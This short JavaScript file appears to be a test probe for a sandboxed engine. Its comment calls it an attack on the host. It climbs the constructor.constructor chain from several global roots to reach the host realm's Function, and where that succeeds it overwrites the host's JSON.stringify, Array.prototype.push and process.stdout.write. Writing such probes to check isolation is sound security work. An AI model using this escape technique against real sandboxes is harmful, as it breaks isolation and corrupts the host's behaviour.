// Attacks the host through the global object: its constructor chain leads to the host's realm.
let spoilt = 0;
function realm(value) {
  try {
    const make = value.constructor.constructor;
    return make === Function ? 'own' : make('return this')();
  } catch (refused) {
    return 'refused';
  }
}
const roots = [this, globalThis, Object.getPrototypeOf(globalThis) || {}];
for (const root of roots) {
  const found = realm(root);
  if (typeof found !== 'string' && found !== globalThis) {
    spoilt += 1;
    found.JSON.stringify = () => 'forged';
    found.Array.prototype.push = () => 0;
    if (found.process) found.process.stdout.write = () => true;
  }
}
print('roots', roots.length);
